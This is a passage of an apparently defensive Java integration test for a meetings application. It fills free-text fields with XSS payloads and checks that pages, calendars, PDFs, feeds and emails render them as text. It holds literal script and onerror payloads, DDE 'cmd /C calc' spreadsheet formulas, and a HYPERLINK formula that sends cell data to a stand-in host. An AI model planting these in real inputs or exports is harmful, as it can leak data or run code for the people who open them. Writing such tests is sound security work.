package roundtable;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.anonymous;
import static org.springframework.security.test.web.servlet.setup.SecurityMockMvcConfigurers.springSecurity;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import com.icegreen.greenmail.util.GreenMail;
import com.vaadin.browserless.SpringBrowserlessTest;
import com.vaadin.flow.component.Component;
import com.vaadin.flow.component.Html;
import com.vaadin.flow.component.UI;
import com.vaadin.flow.dom.Element;
import com.vaadin.flow.internal.nodefeature.VirtualChildrenList;
import com.vaadin.flow.router.QueryParameters;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import net.fortuna.ical4j.data.CalendarBuilder;
import net.fortuna.ical4j.model.Calendar;
import net.fortuna.ical4j.model.Property;
import net.fortuna.ical4j.model.component.VEvent;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.security.test.context.support.WithAnonymousUser;
import org.springframework.security.test.context.support.WithUserDetails;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.web.context.WebApplicationContext;
import roundtable.attendance.AccessNeeds;
import roundtable.attendance.AccommodationType;
import roundtable.attendance.AttendanceLimits;
import roundtable.attendance.CheckInFixtures;
import roundtable.attendance.GuestRsvpChanges;
import roundtable.attendance.GuestRsvps;
import roundtable.attendance.InterpretationMode;
import roundtable.attendance.MemberRsvps;
import roundtable.attendance.Response;
import roundtable.attendance.checkin.AttendanceMode;
import roundtable.attendance.checkin.CheckInService;
import roundtable.base.SpreadsheetCells;
import roundtable.base.i18n.Language;
import roundtable.base.security.Role;
import roundtable.committees.BodyEditor;
import roundtable.committees.BodyKind;
import roundtable.committees.BodySettings;
import roundtable.committees.BodySummary;
import roundtable.committees.CommitteeService;
import roundtable.committees.NewBody;
import roundtable.committees.Position;
import roundtable.committees.RosterExport;
import roundtable.committees.RosterService;
import roundtable.committees.SeatAssignment;
import roundtable.committees.SeatGroupData;
import roundtable.meetings.AgendaItemData;
import roundtable.meetings.AgendaService;
import roundtable.meetings.AttachmentService;
import roundtable.meetings.MeetingData;
import roundtable.meetings.MeetingFormat;
import roundtable.meetings.MeetingPlace;
import roundtable.meetings.MeetingPlanning;
import roundtable.meetings.MeetingService;
import roundtable.minutes.MinutesApproval;
import roundtable.minutes.MinutesDraft;
import roundtable.minutes.MinutesDrafting;
import roundtable.minutes.MinutesPublishing;
import roundtable.minutes.XssPayloads;
import roundtable.minutes.feeds.AtomDocument;
import roundtable.notifications.NotificationService;
import roundtable.people.PersonData;
import roundtable.people.PersonEditor;
import roundtable.people.PersonService;
import roundtable.scheduling.PollProposal;
import roundtable.scheduling.SchedulingService;

/**
 * The XSS corpus in every free-text field a person types outside the minutes (whose own fields
 * {@link roundtable.minutes.MinutesXssIntegrationTest} covers), read back through every output
 * the field reaches. A body of its own ({@code xss-corpus}) carries the payloads so no other test
 * meets them: its name, description and seat groups, twenty members named with payloads, a meeting
 * whose every text field is hostile with twenty hostile agenda items and a hostile file name, and a
 * meeting cancelled for a hostile reason. Rich-text fields get all the corpus, plain ones twenty
 * shapes spread over it ({@link XssPayloads#shapes}).
 *
 * <h2>Inventory: free-text fields and the outputs they reach</h2>
 * How each output is kept safe, and what checks it ("by construction" = only ever set as text:
 * Vaadin {@code Text}/{@code setText}/grid value providers, Thymeleaf {@code th:text}, so the
 * browser is never asked to parse it; {@code OutputEscapingGuardTest} fails when a new unescaped
 * output appears, and the tree check below when a page here gains one). Email subjects are set
 * through Jakarta Mail, which folds a line break into the header rather than starting a new one.
 * <table>
 * <tr><th>Field</th><th>Outputs</th><th>Checked</th></tr>
 * <tr><td>Body name, acronym</td><td>committee page, my committees, roster, meeting page, ICS
 * SUMMARY/ORGANIZER CN/X-WR-CALNAME, invitation emails, roster CSV file name (slug), minutes
 * permalink/PDF/feed</td><td>views, ICS, email here; minutes outputs through the meeting title in
 * MinutesXssIntegrationTest</td></tr>
 * <tr><td>Body description (rich)</td><td>committee page, my committees ({@code RichTextBlock}:
 * sanitised on save and output)</td><td>views here, all 118</td></tr>
 * <tr><td>Seat group name</td><td>roster view, public roster, roster CSV</td><td>views, CSV</td></tr>
 * <tr><td>Person name, pronouns, affiliation, phone, accessibility needs</td><td>roster view,
 * public roster, people admin, roster CSV, email greeting (HTML + text), ICS ATTENDEE CN, minutes
 * attendance</td><td>views, emails, ICS, CSV here; minutes in MinutesXssIntegrationTest</td></tr>
 * <tr><td>Meeting title, location, room, access notes, dial-in, cancel reason</td><td>meeting page,
 * meetings admin, calendars, ICS feeds and attachments, invitation/announcement/cancel emails (HTML,
 * text, subject), vendor CSV</td><td>views, ICS, emails here; vendor CSV in VendorCsvXssTest</td></tr>
 * <tr><td>Meeting join link</td><td>meeting page link, ICS, emails</td><td>only http(s) accepted on
 * save ({@code MeetingLimits.WEB_LINK}); the tree check refuses any script URL</td></tr>
 * <tr><td>Meeting description, agenda item description (rich)</td><td>meeting page
 * ({@code RichTextBlock})</td><td>views here, all 118</td></tr>
 * <tr><td>Agenda item title, presenter; attachment file name</td><td>meeting page, agenda editor,
 * download header (names cleaned of {@code <>":;} by {@code AttachmentNames}; served as attachment
 * with {@code nosniff} and a sandbox CSP)</td><td>views here</td></tr>
 * <tr><td>Minutes notes, motions, actions, public comment, guests, translation</td><td>minutes page,
 * permalink, PDF, Atom feed, email</td><td>MinutesXssIntegrationTest, all 118</td></tr>
 * <tr><td>RSVP guest name; access needs (accommodation details, children's ages)</td><td>check-in
 * list, language-services request desk, guest emails (HTML + text), vendor CSV (no requester's
 * details leave)</td><td>views (check-in, request desk) and guest emails here; vendor CSV in
 * VendorCsvXssTest</td></tr>
 * <tr><td>Walk-in name</td><td>check-in list; never named in the public minutes</td><td>check-in view
 * here, and its absence from the permalink</td></tr>
 * <tr><td>Amendment reason</td><td>minutes page, permalink, PDF, email</td><td>views, permalink,
 * PDF here</td></tr>
 * <tr><td>Poll title, location</td><td>poll page, availability page, availability and poll-decided
 * emails, the meeting it becomes</td><td>poll page and availability emails here</td></tr>
 * <tr><td>Interpreter name/notes/vendor, subscription e-mail</td><td>interpreter roster, assign
 * dialog, vendor CSV, subscription emails</td><td>by construction (Text/grid/th:text, guarded by
 * OutputEscapingGuardTest); interpreter names in VendorCsvXssTest</td></tr>
 * <tr><td>Audit before/after</td><td>audit log grid ({@code LitRenderer} text binding
 * {@code ${item.before}}, which Lit escapes)</td><td>by construction</td></tr>
 * </table>
 */
@IntegrationTest
class FreeTextXssIntegrationTest extends SpringBrowserlessTest {

    static final String SLUG = "xss-corpus";
    static final int PEOPLE = 20;
    /**
     * The cells a spreadsheet would run as formulas, with what they would do. A tab or line break in
     * front is refused at the form now (PlainText), so the hidden starts left are blanks and full-width signs.
     */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\u00A0=1+1",
            "\uFF1D1+1",
            "=1+1");

    /** What the hostile body and its meetings were given, to compare with what comes out. */
    record Corpus(
            long bodyId,
            String bodyName,
            String acronym,
            List<String> seatGroups,
            List<Member> members,
            long meetingId,
            MeetingData meeting,
            List<String> agendaTitles,
            List<String> presenters,
            String fileName,
            long cancelledId,
            String cancelReason,
            long minutesId,
            String amendmentReason,
            long heldId,
            List<String> walkIns,
            List<String> guests,
            String accommodation,
            long pollId,
            String pollTitle,
            String pollLocation) {}

    record Member(String name, String email, String affiliation) {}

    static Corpus corpus;
    /** Set when building the corpus failed: the body's slug is then taken, so the others report the first cause. */
    static RuntimeException broken;

    @Autowired
    CommitteeService committees;

    @Autowired
    BodyEditor bodyEditor;

    @Autowired
    RosterService roster;

    @Autowired
    RosterExport rosterExport;

    @Autowired
    MeetingService meetings;

    @Autowired
    MeetingPlanning planning;

    @Autowired
    AgendaService agenda;

    @Autowired
    AttachmentService attachments;

    @Autowired
    MinutesDrafting minutes;

    @Autowired
    MinutesPublishing publishing;

    @Autowired
    MinutesApproval approval;

    @Autowired
    PersonService people;

    @Autowired
    PersonEditor personEditor;

    @Autowired
    MemberRsvps attendance;

    @Autowired
    GuestRsvpChanges guestChanges;

    @Autowired
    GuestRsvps guestRsvps;

    @Autowired
    CheckInService checkIns;

    @Autowired
    SchedulingService scheduling;

    @Autowired
    UserDetailsService users;

    @Autowired
    TestClock clock;

    @Autowired
    WebApplicationContext context;

    @Autowired
    GreenMail mail;

    @Autowired
    NotificationService notifications;

    @Autowired
    JdbcTemplate jdbc;

    <T> T asAdmin(Supplier<T> work) {
        return RunAs.as(users, "admin@example.org", work);
    }

    @BeforeEach
    void hostileBody() {
        if (broken != null) {
            throw broken;
        }
        if (corpus == null) {
            archiver = () -> RunAs.as(users, "admin@example.org", () -> {
                BodySummary body = committees.find(corpus.bodyId()).orElseThrow();
                BodySettings b = body.settings();
                bodyEditor.configureBody(
                        body.id(),
                        body.version(),
                        new BodySettings(
                                b.name(),
                                b.acronym(),
                                b.kind(),
                                b.descriptionHtml(),
                                b.rosterPublic(),
                                b.contactsVisible(),
                                b.quorumFixed(),
                                b.languagesOffered(),
                                b.timeRules(),
                                false));
            });
            try {
                corpus = asAdmin(this::build);
            } catch (RuntimeException e) {
                broken = e;
                throw e;
            }
        }
    }

    /** Keeps the shared demo world as other tests expect it: the hostile body is archived once this class is done. */
    @AfterAll
    static void archive() {
        if (corpus != null && archiver != null) {
            archiver.run();
        }
    }

    /** Set while the Spring beans are at hand, run after the last test. */
    static Runnable archiver;

    @AfterEach
    void quiet() {
        // Invitations and cancellations to the twenty members: let them go before other tests count messages.
        OutboxDrain.await(notifications, jdbc, Duration.ofSeconds(60));
    }

    Corpus build() {
        List<String> shapes = XssPayloads.shapes(PEOPLE, 120);
        String all = String.join("\n", XssPayloads.all());
        String bodyName = "Corpus " + shapes.get(0);
        String acronym = "<b onclick=x>X";
        long bodyId = bodyEditor.createBody(
                new NewBody(bodyName, acronym, SLUG, BodyKind.ADVISORY_COMMITTEE, all, true, null, List.of("es")));
        List<String> seatGroups = shapes.subList(1, 4);
        List<Long> seatIds = seatGroups.stream()
                .map(name -> bodyEditor.addSeatGroup(bodyId, new SeatGroupData(name, PEOPLE, true, 24, null)))
                .toList();
        List<Member> members = new ArrayList<>();
        LocalDate today = LocalDate.now(clock.withZone(CheckInFixtures.DENVER));
        for (int i = 0; i < PEOPLE; i++) {
            String name = shapes.get(i);
            String email = "xss-corpus-" + i + "@example.test";
            String affiliation = FORMULAS.get(i % FORMULAS.size());
            roster.fillSeat(
                    bodyId,
                    new SeatAssignment(
                            seatIds.get(i % seatIds.size()),
                            null,
                            new PersonData(
                                    name,
                                    email,
                                    i % 2 == 0 ? "=1+2" : null,
                                    i % 2 == 0 ? Language.ENGLISH : Language.SPANISH,
                                    shapes.get(PEOPLE - 1 - i)
                                            .substring(
                                                    0,
                                                    Math.min(
                                                            40,
                                                            shapes.get(PEOPLE - 1 - i)
                                                                    .length())),
                                    affiliation,
                                    true,
                                    shapes.get(i)),
                            i == 0 ? Position.CHAIR : Position.MEMBER,
                            today.minusDays(1),
                            null));
            members.add(new Member(name, email, affiliation));
        }

        LocalDateTime start = LocalDateTime.now(clock.withZone(CheckInFixtures.DENVER))
                .plusDays(10)
                .truncatedTo(ChronoUnit.HOURS);
        MeetingData meeting = new MeetingData(
                bodyId,
                shapes.get(4) + " " + shapes.get(11),
                start,
                CheckInFixtures.DENVER,
                90,
                new MeetingPlace(
                        MeetingFormat.HYBRID,
                        joined(shapes, 500),
                        shapes.get(5),
                        joined(shapes.subList(6, PEOPLE), 1000),
                        "https://meet.example.org/xss",
                        shapes.get(7),
                        List.of("es")),
                true,
                all);
        long meetingId = planning.scheduleMeeting(meeting);
        List<String> titles = new ArrayList<>();
        List<String> presenters = new ArrayList<>();
        long firstItem = 0;
        for (int i = 0; i < PEOPLE; i++) {
            long item = agenda.addAgendaItem(
                    meetingId,
                    new AgendaItemData(
                            shapes.get(i), shapes.get(PEOPLE - 1 - i), 5, i % 5 == 0 ? all : shapes.get(i), false));
            firstItem = i == 0 ? item : firstItem;
            titles.add(shapes.get(i));
            presenters.add(shapes.get(PEOPLE - 1 - i));
        }
        byte[] text = "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8);
        String fileName = attachments
                .attach(
                        firstItem,
                        "<img src=x onerror=alert(1)>\"javascript:alert(1)\".txt",
                        new ByteArrayInputStream(text),
                        text.length)
                .fileName();

        String cancelReason = joined(shapes.subList(10, PEOPLE), 1000);
        long cancelledId = planning.scheduleMeeting(meeting.startingAt(start.plusDays(7)));
        planning.cancelMeeting(
                cancelledId, meetings.find(cancelledId).orElseThrow().version(), cancelReason);

        // Minutes of the same hostile meeting, held: they carry the body's name, the title, the hostile
        // members (attendance comes from the roster) and, once amended, a hostile reason, into every minutes output.
        long heldId =
                planning.scheduleMeeting(meeting.startingAt(LocalDateTime.now(clock.withZone(CheckInFixtures.DENVER))
                        .minus(CheckInFixtures.STARTED_AGO)
                        .truncatedTo(ChronoUnit.MINUTES)));
        // The chair approves minutes and answers for themself; the hostile-named chair signs in for it.
        personEditor.allowSignIn(people.idOf(members.getFirst().email()).orElseThrow(), Set.of(Role.MEMBER), null);
        String accommodation = joined(shapes.subList(2, PEOPLE), AttendanceLimits.DETAILS);
        RunAs.as(
                users,
                members.getFirst().email(),
                () -> attendance.rsvp(
                        meetingId,
                        Response.IN_PERSON,
                        new AccessNeeds(
                                "es",
                                InterpretationMode.IN_PERSON,
                                "es",
                                Set.of(AccommodationType.OTHER),
                                accommodation,
                                2,
                                shapes.get(8),
                                true)));
        List<String> guests = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            String guest = "Guest " + shapes.get(12 + i);
            String email = "xss-corpus-guest-" + i + "@example.test";
            int n = i;
            RunAs.as(
                    users,
                    null,
                    () -> guestRsvps.guestRsvp(
                            meetingId,
                            guest,
                            email,
                            Language.ENGLISH,
                            Response.ONLINE,
                            new AccessNeeds(
                                    "vi",
                                    InterpretationMode.SIMULTANEOUS_ONLINE,
                                    null,
                                    Set.of(AccommodationType.OTHER),
                                    shapes.get(n),
                                    null,
                                    null,
                                    false),
                            "198.51.100." + (200 + n)));
            String token = Mailbox.awaitLink(mail, email, "", "/rsvp/confirm/", Duration.ofSeconds(30))
                    .replaceAll(".*/rsvp/confirm/", "");
            RunAs.as(users, null, () -> guestChanges.confirmGuest(token));
            guests.add(guest);
        }
        List<String> walkIns = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            String walkIn = "Walk-in " + shapes.get(15 + i);
            checkIns.addWalkIn(heldId, walkIn, AttendanceMode.IN_PERSON);
            walkIns.add(walkIn.strip().replaceAll("\\s+", " "));
        }
        // Finding a time for the next one: the poll's title and place go to three members by email.
        String pollTitle = shapes.get(9) + " " + shapes.get(13);
        String pollLocation = joined(shapes.subList(5, PEOPLE), 500);
        Set<Long> invited = members.subList(0, 3).stream()
                .map(mb -> people.idOf(mb.email()).orElseThrow())
                .collect(Collectors.toSet());
        long pollId = scheduling.proposeTimes(
                bodyId,
                new PollProposal(
                        pollTitle,
                        60,
                        new MeetingPlace(MeetingFormat.IN_PERSON, pollLocation, null, List.of()),
                        true,
                        List.of(start.plusDays(20), start.plusDays(21)),
                        invited,
                        List.of(),
                        start.plusDays(5)));

        long minutesId = minutes.startDraft(heldId);
        publish(minutesId, heldId);
        String amendmentReason = joined(shapes.subList(3, PEOPLE), 1000);
        approval.amend(minutesId, minutes.draftOf(heldId).orElseThrow().version(), amendmentReason);
        publish(minutesId, heldId);
        // Every email (invitations, the cancellation, both publications) is in the mailbox before any test reads it.
        OutboxDrain.await(notifications, jdbc, Duration.ofSeconds(60));
        return new Corpus(
                bodyId,
                bodyName,
                acronym,
                seatGroups,
                List.copyOf(members),
                meetingId,
                meeting,
                List.copyOf(titles),
                List.copyOf(presenters),
                fileName,
                cancelledId,
                cancelReason,
                minutesId,
                amendmentReason,
                heldId,
                List.copyOf(walkIns),
                List.copyOf(guests),
                accommodation,
                pollId,
                pollTitle,
                pollLocation);
    }

    void publish(long minutesId, long meetingId) {
        MinutesDraft submitted = minutes.submit(
                minutesId, minutes.draftOf(meetingId).orElseThrow().version());
        MinutesDraft approved = RunAs.as(
                users, "xss-corpus-0@example.test", () -> approval.approve(minutesId, submitted.version(), null));
        publishing.publish(minutesId, approved.version(), true);
    }

    static String joined(List<String> payloads, int max) {
        StringBuilder out = new StringBuilder();
        for (String p : payloads) {
            if (out.length() + p.length() + 1 > max) {
                break;
            }
            out.append(out.isEmpty() ? "" : " ").append(p);
        }
        return out.toString();
    }

    // ---------------------------------------------------------------- Vaadin views

    /** Pages anyone may open, and the hostile text each must show as text. */
    static Stream<String> publicPages() {
        return Stream.of(
                "committees/" + SLUG,
                "meetings/{meeting}",
                "meetings/{cancelled}",
                "minutes/{minutes}",
                "minutes?q=alert&body=" + SLUG);
    }

    /** Pages of those who manage the body. */
    static Stream<String> managerPages() {
        return Stream.of(
                "committees/" + SLUG,
                "meetings/{meeting}",
                "meetings/{cancelled}",
                "manage/roster/" + SLUG,
                "manage/meetings/" + SLUG,
                "manage/meetings/{meeting}/agenda",
                "manage/meetings/{held}/check-in",
                "language-services/requests",
                "minutes/{minutes}",
                "manage/find-a-time/" + SLUG,
                "language-services",
                "admin/people",
                "manage/find-a-time/poll/{poll}");
    }

    @ParameterizedTest
    @MethodSource("publicPages")
    @WithAnonymousUser
    void aPublicPageShowsEveryHostileFieldAsTextAndRunsNothing(String route) {
        pageIsHarmless(route);
    }

    @ParameterizedTest
    @MethodSource("managerPages")
    @WithUserDetails("admin@example.org")
    void aManagersPageShowsEveryHostileFieldAsTextAndRunsNothing(String route) {
        pageIsHarmless(route);
    }

    void pageIsHarmless(String route) {
        String path = route.replace("{meeting}", String.valueOf(corpus.meetingId()))
                .replace("{cancelled}", String.valueOf(corpus.cancelledId()))
                .replace("{minutes}", String.valueOf(corpus.minutesId()))
                .replace("{held}", String.valueOf(corpus.heldId()))
                .replace("{poll}", String.valueOf(corpus.pollId()));
        int query = path.indexOf('?');
        Component view;
        if (query < 0) {
            view = navigate(path, Component.class);
        } else {
            UI.getCurrent().navigate(path.substring(0, query), QueryParameters.fromString(path.substring(query + 1)));
            view = (Component) getCurrentView();
        }
        inspect(view.getUI().orElseThrow().getElement(), route);
        String text = view.getElement().getTextRecursively();
        for (String expected : shownAsText(route)) {
            assertThat(text).as(route + " shows, as text, " + expected).contains(expected);
        }
    }

    /** The hostile values a page must show verbatim, which proves they reach it and are text there. */
    List<String> shownAsText(String route) {
        MeetingData m = corpus.meeting();
        if (route.startsWith("committees/")) {
            return List.of(corpus.bodyName());
        }
        if (route.equals("meetings/{meeting}")) {
            List<String> shown = new ArrayList<>(List.of(
                    m.title(), m.place().location(), m.place().room(), m.place().accessNotes()));
            shown.addAll(corpus.agendaTitles());
            shown.add(corpus.fileName());
            return shown;
        }
        if (route.equals("meetings/{cancelled}")) {
            return List.of(m.title(), corpus.cancelReason());
        }
        if (route.equals("minutes/{minutes}")) {
            return List.of(m.title(), corpus.amendmentReason());
        }
        if (route.endsWith("/poll/{poll}")) {
            return List.of(corpus.pollTitle());
        }
        if (route.endsWith("/check-in")) {
            return corpus.walkIns();
        }
        if (route.equals("language-services/requests")) {
            return List.of(m.title());
        }
        if (route.startsWith("minutes?")) {
            return List.of("alert(1)");
        }
        if (route.equals("manage/meetings/{meeting}/agenda")) {
            return corpus.agendaTitles();
        }
        if (route.startsWith("manage/meetings/") || route.startsWith("manage/find-a-time/")) {
            return List.of(corpus.bodyName());
        }
        return List.of();
    }

    /**
     * Walks the whole UI as the browser will get it: no element that runs or loads anything, no
     * event-handler attribute, no script URL, and every {@link Html} (the only way markup reaches
     * the browser as markup) free of anything that runs.
     */
    static void inspect(Element element, String where) {
        if (element.isTextNode()) {
            return;
        }
        String tag = element.getTag() == null ? "" : element.getTag().toLowerCase(Locale.ROOT);
        assertThat(Set.of("script", "iframe", "frame", "object", "embed", "applet", "base", "meta", "svg"))
                .as(where + ": element <" + tag + ">")
                .doesNotContain(tag);
        for (String name : element.getAttributeNames().toList()) {
            String value = String.valueOf(element.getAttribute(name)).strip().toLowerCase(Locale.ROOT);
            assertThat(name.toLowerCase(Locale.ROOT))
                    .as(where + ": attribute on <" + tag + ">")
                    .doesNotStartWith("on");
            assertThat(value)
                    .as(where + ": " + name + " of <" + tag + ">")
                    .doesNotStartWith("javascript:")
                    .doesNotStartWith("vbscript:")
                    .doesNotStartWith("data:");
        }
        if (element.hasProperty("innerHTML")) {
            String html = element.getProperty("innerHTML");
            XssPayloads.assertHarmless(html, where + ": innerHTML of <" + tag + ">");
        }
        element.getComponent()
                .filter(Html.class::isInstance)
                .map(Html.class::cast)
                .ifPresent(html -> XssPayloads.assertHarmless(html.getInnerHtml(), where + ": Html"));
        element.getChildren().forEach(child -> inspect(child, where));
        // Dialogs and overlays are virtual children: still sent to the browser.
        for (int i = 0;
                i < element.getNode().getFeature(VirtualChildrenList.class).size();
                i++) {
            Element virtual = Element.get(
                    element.getNode().getFeature(VirtualChildrenList.class).get(i));
            inspect(virtual, where);
        }
    }

    // ---------------------------------------------------------------- iCalendar

    @Test
    @WithAnonymousUser
    void everyCalendarCarriesTheHostileTextAsEscapedTextAndNothingMore() throws Exception {
        for (String path : List.of(
                "/feeds/meetings/" + corpus.meetingId() + ".ics",
                "/feeds/committees/" + SLUG + ".ics",
                "/feeds/committees/" + SLUG + ".ics?lang=es",
                "/feeds/meetings.ics")) {
            MockHttpServletResponse response = fetch(path, "text/calendar");
            Calendar calendar =
                    new CalendarBuilder().build(new StringReader(response.getContentAsString(StandardCharsets.UTF_8)));
            VEvent event = event(calendar, corpus.meetingId(), path);
            eventCarriesTheFieldsVerbatim(event, path);
            if (path.contains("committees")) {
                VEvent cancelled = event(calendar, corpus.cancelledId(), path);
                assertThat(cancelled.getDescription().getValue()).as(path).contains(corpus.cancelReason());
                assertThat(calendar.getProperty("X-WR-CALNAME")
                                .map(Property::getValue)
                                .orElseThrow())
                        .as(path)
                        .contains(corpus.bodyName());
            }
        }
    }

    static VEvent event(Calendar calendar, long meetingId, String where) {
        return calendar.<VEvent>getComponents("VEVENT").stream()
                .filter(e -> e.getUid().orElseThrow().getValue().startsWith("meeting-" + meetingId + "@"))
                .findFirst()
                .orElseThrow(() -> new AssertionError(where + ": no event for meeting " + meetingId));
    }

    /**
     * A calendar app shows these as text: each must come back exactly as typed (so nothing was
     * cut or turned into markup) and no line break in them may have started a property of its own.
     */
    void eventCarriesTheFieldsVerbatim(VEvent event, String where) {
        MeetingData m = corpus.meeting();
        assertThat(event.getSummary().getValue()).as(where + " SUMMARY").endsWith(m.title());
        assertThat(event.getLocation().getValue())
                .as(where + " LOCATION")
                .isEqualTo(m.place().location() + ", " + m.place().room());
        assertThat(event.getDescription().getValue())
                .as(where + " DESCRIPTION")
                .contains(m.place().accessNotes(), m.place().dialIn());
        assertThat(event.getProperties().stream().map(Property::getName).distinct())
                .as(where + " properties")
                .allMatch(Set.of(
                        "UID",
                        "DTSTAMP",
                        "DTSTART",
                        "DTEND",
                        "SEQUENCE",
                        "STATUS",
                        "SUMMARY",
                        "LOCATION",
                        "DESCRIPTION",
                        "URL",
                        "LAST-MODIFIED",
                        "ORGANIZER",
                        "ATTENDEE")::contains);
    }

    // ---------------------------------------------------------------- Minutes: permalink, PDF, Atom

    @Test
    @WithAnonymousUser
    void theMinutesOfTheHostileMeetingRunNothingInThePermalinkThePdfOrTheFeeds() throws Exception {
        String title = corpus.meeting().title();
        for (String version : List.of("", "?version=1")) {
            String page = fetch("/public/minutes/" + corpus.minutesId() + version, "text/html")
                    .getContentAsString(StandardCharsets.UTF_8);
            XssPayloads.assertNothingRuns(page, "permalink" + version);
            Document document = Jsoup.parse(page);
            assertThat(document.title()).as("permalink title").contains(title);
            assertThat(document.text())
                    .as("permalink" + version + " shows the hostile words as words")
                    .contains(title, corpus.bodyName(), corpus.members().get(1).name(), corpus.amendmentReason());
            // Walk-ins never agreed to be named in a public record: they are counted, not listed.
            assertThat(document.text()).as("permalink" + version).doesNotContain(corpus.walkIns());

            byte[] pdf = fetch("/public/minutes/" + corpus.minutesId() + ".pdf" + version, "application/pdf")
                    .getContentAsByteArray();
            try (PDDocument read = Loader.loadPDF(pdf)) {
                for (var key : read.getDocument().getXrefTable().keySet()) {
                    XssPayloads.noScriptIn(
                            read.getDocument().getObjectFromPool(key).getObject(), "pdf " + key);
                }
                assertThat(new PDFTextStripper().getText(read))
                        .as("pdf" + version)
                        .contains("alert(1)");
            }
        }
        for (String feed : List.of("/feeds/minutes.atom", "/feeds/committees/" + SLUG + "/minutes.atom")) {
            String xml = fetch(feed, "application/atom+xml").getContentAsString(StandardCharsets.UTF_8);
            AtomDocument.AtomEntry entry = AtomDocument.parse(xml).entries().stream()
                    .filter(e -> e.link().contains("/public/minutes/" + corpus.minutesId()))
                    .findFirst()
                    .orElseThrow(() -> new AssertionError(feed + ": no entry for the hostile minutes"));
            assertThat(entry.title()).as(feed + " title, as text").contains(title);
            XssPayloads.assertNothingRuns(entry.content(), feed);
            XssPayloads.assertHarmless(entry.content(), feed);
        }
    }

    MockHttpServletResponse fetch(String path, String type) throws Exception {
        MockHttpServletResponse response = MockMvcBuilders.webAppContextSetup(context)
                .apply(springSecurity())
                .build()
                .perform(get(path).with(anonymous()))
                .andReturn()
                .getResponse();
        assertThat(response.getStatus()).as(path).isEqualTo(200);
        assertThat(response.getContentType()).as(path).startsWith(type);
        return response;
    }

    // ---------------------------------------------------------------- Email

    @Test
    @WithAnonymousUser
    void everyEmailToAMemberWithAHostileNameAboutAHostileMeetingRunsNothing() throws Exception {
        for (Member member : corpus.members()) {
            List<MimeMessage> messages = Mailbox.to(mail, member.email(), 4, Duration.ofSeconds(60));
            for (MimeMessage message : messages) {
                String where = "email to " + member.email() + " \"" + message.getSubject() + "\"";
                assertThat(message.getAllRecipients()).as(where + " recipients").hasSize(1);
                assertThat(message.getHeader("Bcc")).as(where).isNull();
                String html = Mailbox.part(message, "text/html");
                XssPayloads.assertNothingRuns(html, where);
                String text = Mailbox.part(message, "text/plain");
                assertThat(text)
                        .as(where + ": the text part is the words typed, not escaped markup")
                        .containsAnyOf(corpus.meeting().title(), corpus.pollTitle())
                        .doesNotContain("&lt;");
                String ics = Mailbox.calendar(message);
                if (ics != null) {
                    Calendar calendar = new CalendarBuilder().build(new StringReader(ics));
                    VEvent event = calendar.<VEvent>getComponents("VEVENT").getFirst();
                    eventCarriesTheFieldsVerbatim(event, where);
                    // Quotes and line breaks in a name are RFC 6868-encoded, so no name can add a parameter or
                    // change whom the invitation is for; a reader takes a backslash there as an escape, a loss of no
                    // harm.
                    Property attendee = event.getProperty("ATTENDEE").orElseThrow();
                    assertThat(attendee.getValue()).as(where + " ATTENDEE").isEqualTo("mailto:" + member.email());
                    assertThat(attendee.getParameterList().getAll().stream()
                                    .map(p -> p.getName())
                                    .sorted()
                                    .toList())
                            .as(where + " ATTENDEE parameters")
                            .containsExactly("CN", "PARTSTAT", "ROLE", "RSVP");
                    assertThat(attendee.getParameter("CN").orElseThrow().getValue())
                            .as(where + " ATTENDEE CN")
                            .isEqualTo(member.name().replace("\\", ""));
                    assertThat(event.getProperty("ORGANIZER")
                                    .orElseThrow()
                                    .getParameter("CN")
                                    .orElseThrow()
                                    .getValue())
                            .as(where + " ORGANIZER CN")
                            .isEqualTo(corpus.bodyName().replace("\\", ""));
                }
            }
        }
    }

    @Test
    @WithAnonymousUser
    void everyEmailToAGuestWithAHostileNameRunsNothing() throws Exception {
        for (int i = 0; i < corpus.guests().size(); i++) {
            for (MimeMessage message :
                    Mailbox.to(mail, "xss-corpus-guest-" + i + "@example.test", 2, Duration.ofSeconds(60))) {
                String where = "email to guest " + i + " \"" + message.getSubject() + "\"";
                XssPayloads.assertNothingRuns(Mailbox.part(message, "text/html"), where);
                assertThat(Mailbox.part(message, "text/plain"))
                        .as(where + ": the text part is the words typed")
                        .contains(corpus.guests().get(i))
                        .doesNotContain("&lt;");
            }
        }
    }

    // ---------------------------------------------------------------- Spreadsheets

    @Test
    @WithAnonymousUser
    void theRosterSpreadsheetKeepsHostileNamesAsTextAndRunsNoFormula() throws Exception {
        String csv = asAdmin(() -> rosterExport.export(corpus.bodyId()));
        List<CSVRecord> rows;
        try (CSVParser parser = CSVParser.builder()
                .setReader(new StringReader(csv))
                .setFormat(CSVFormat.DEFAULT
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())
                .get()) {
            rows = parser.getRecords();
        }
